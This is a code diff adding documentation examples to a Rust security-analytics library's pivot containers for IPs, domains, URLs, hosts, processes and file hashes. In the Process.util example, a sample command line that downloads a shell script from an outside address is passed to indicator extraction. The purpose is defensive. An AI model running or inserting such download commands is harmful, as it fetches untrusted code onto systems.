@@ -10,7 +10,17 @@ use crate::registry::Pivots;
 use mstic_core::display::escape_html;
 use mstic_core::{Frame, MimeBundle, Result};
 
-/// The pivots of one entity kind in a registry.
+/// The pivots of one entity kind in a registry, by container (`util`, `ti`, query environments).
+///
+/// # Example
+/// ```
+/// use mstic_pivot::{Dns, Pivots};
+/// let dns = Dns::pivots_in(&Pivots::new());
+/// assert!(dns.containers().contains(&"util".to_string()));
+/// let checked = dns.call("util.dns_validate_tld", "server.notarealtld")?;
+/// assert_eq!(checked.column_strings("result")?, vec![Some("False".to_string())]);
+/// # Ok::<(), mstic_core::Error>(())
+/// ```
 #[derive(Clone)]
 pub struct EntityPivots {
     pivots: Pivots,
@@ -57,6 +67,16 @@ impl EntityPivots {
 }
 
 /// One named container of pivot functions of one entity (e.g. `IpAddress.util`).
+///
+/// # Example
+/// ```
+/// use mstic_pivot::{EntityKind, EntityPivots, Pivots};
+/// let util = EntityPivots::new(&Pivots::new(), EntityKind::Url).container("util");
+/// assert!(util.names().contains(&"url_components".to_string()));
+/// let parts = util.call("url_components", "https://contoso.com/login?next=home")?;
+/// assert_eq!(parts.column_strings("path")?, vec![Some("/login".to_string())]);
+/// # Ok::<(), mstic_core::Error>(())
+/// ```
 #[derive(Clone)]
 pub struct Container {
     pivots: Pivots,
@@ -118,23 +138,124 @@ macro_rules! typed_container {
     };
 }
 
-typed_container!(/// `IpAddress.util`.
+typed_container!(
+    /// `IpAddress.util`: the IP address utilities (`ip_type`, `whois`, `geoloc`…) as methods.
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_pivot::{IpAddress, Pivots};
+    /// let util = IpAddress::util_in(&Pivots::new());
+    /// let types = util.ip_type(vec!["10.0.0.1", "8.8.8.8"])?;
+    /// assert_eq!(types.column_strings("result")?, vec![Some("Private".to_string()), Some("Public".to_string())]);
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     IpAddressUtil, "util", [whois, whois_asn, ip_type, geoloc, geoloc_ips, ip_rev_resolve]);
-typed_container!(/// `IpAddress.ti`.
+typed_container!(
+    /// `IpAddress.ti`: threat-intelligence lookup of IP addresses, once a [`mstic_context::TiLookup`]
+    /// is added with [`Pivots::add_ti`].
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_context::TiLookup;
+    /// use mstic_pivot::{IpAddress, Pivots};
+    /// let pivots = Pivots::new();
+    /// assert!(IpAddress::ti_in(&pivots).names().is_empty());
+    /// pivots.add_ti(TiLookup::new());
+    /// assert_eq!(IpAddress::ti_in(&pivots).names(), vec!["lookup_ip"]);
+    /// // No TI provider is configured here, so the lookup fails without going to the network.
+    /// assert!(IpAddress::ti_in(&pivots).lookup_ip("1.1.1.1").is_err());
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     IpAddressTi, "ti", [lookup_ip]);
-typed_container!(/// `Dns.util`.
+typed_container!(
+    /// `Dns.util`: domain name utilities (`dns_components`, `dns_resolve`…) as methods.
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_pivot::{Dns, Pivots};
+    /// let parts = Dns::util_in(&Pivots::new()).dns_components("www.contoso.com")?;
+    /// assert_eq!(parts.column_strings("registered_domain")?, vec![Some("contoso.com".to_string())]);
+    /// assert_eq!(parts.column_strings("subdomain")?, vec![Some("www".to_string())]);
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     DnsUtil, "util", [dns_components, dns_resolve, dns_is_resolvable, dns_validate_tld]);
-typed_container!(/// `Dns.ti`.
+typed_container!(
+    /// `Dns.ti`: threat-intelligence lookup of domain names, once a TI lookup is added.
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_context::TiLookup;
+    /// use mstic_pivot::{Dns, Pivots};
+    /// let pivots = Pivots::new();
+    /// pivots.add_ti(TiLookup::new());
+    /// let lookup = Dns::ti_in(&pivots).func("lookup_dns")?;
+    /// assert_eq!((lookup.attribute.as_str(), lookup.out_key.as_str()), ("DomainName", "Ioc"));
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     DnsTi, "ti", [lookup_dns]);
-typed_container!(/// `Url.util`.
+typed_container!(
+    /// `Url.util`: URL utilities (`url_components`, `dns_components`, `extract_iocs`…) as methods.
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_pivot::{Pivots, Url};
+    /// let parts = Url::util_in(&Pivots::new()).url_components("https://www.contoso.com/login?next=home")?;
+    /// assert_eq!(parts.column_strings("host")?, vec![Some("www.contoso.com".to_string())]);
+    /// assert_eq!(parts.column_strings("query")?, vec![Some("next=home".to_string())]);
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     UrlUtil, "util", [dns_components, url_components, b64decode, extract_iocs, dns_resolve, dns_is_resolvable, dns_validate_tld]);
-typed_container!(/// `Url.ti`.
+typed_container!(
+    /// `Url.ti`: threat-intelligence lookup of URLs, once a TI lookup is added (shortcut
+    /// `tilookup_url`).
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_context::TiLookup;
+    /// use mstic_pivot::{Pivots, Url};
+    /// let pivots = Pivots::new();
+    /// pivots.add_ti(TiLookup::new());
+    /// assert_eq!(Url::ti_in(&pivots).names(), vec!["lookup_url"]);
+    /// assert_eq!(Url::pivots_in(&pivots).func("tilookup_url")?.full_name(), "Url.ti.lookup_url");
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     UrlTi, "ti", [lookup_url]);
-typed_container!(/// `Host.util`.
+typed_container!(
+    /// `Host.util`: host name utilities (`dns_components`, `dns_resolve`…), called with the host's
+    /// FQDN.
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_pivot::{Host, Pivots};
+    /// let checked = Host::util_in(&Pivots::new()).dns_validate_tld(Host::new("ws1.contoso.com"))?;
+    /// assert_eq!(checked.column_strings("result")?, vec![Some("True".to_string())]);
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     HostUtil, "util", [dns_components, dns_resolve, dns_is_resolvable, dns_validate_tld]);
-typed_container!(/// `Process.util`.
+typed_container!(
+    /// `Process.util`: command-line utilities (`b64decode`, `extract_iocs`) as methods.
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_pivot::{Pivots, Process};
+    /// let iocs = Process::util_in(&Pivots::new()).extract_iocs(Process::new("curl -O http://198.51.100.7/a.sh"))?;
+    /// assert!(iocs.column_strings("Observable")?.contains(&Some("198.51.100.7".to_string())));
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     ProcessUtil, "util", [b64decode, extract_iocs]);
-typed_container!(/// `File.ti`.
+typed_container!(
+    /// `File.ti`: threat-intelligence lookup of file hashes, once a TI lookup is added.
+    ///
+    /// # Example
+    /// ```
+    /// use mstic_context::TiLookup;
+    /// use mstic_pivot::{File, Pivots};
+    /// let pivots = Pivots::new();
+    /// pivots.add_ti(TiLookup::new());
+    /// let lookup = File::ti_in(&pivots).func("lookup_file_hash")?;
+    /// assert_eq!(lookup.attribute, "file_hash"); // a File entity gives its best hash
+    /// # Ok::<(), mstic_core::Error>(())
+    /// ```
     FileTi, "ti", [lookup_file_hash]);
 
 macro_rules! entity_pivots {
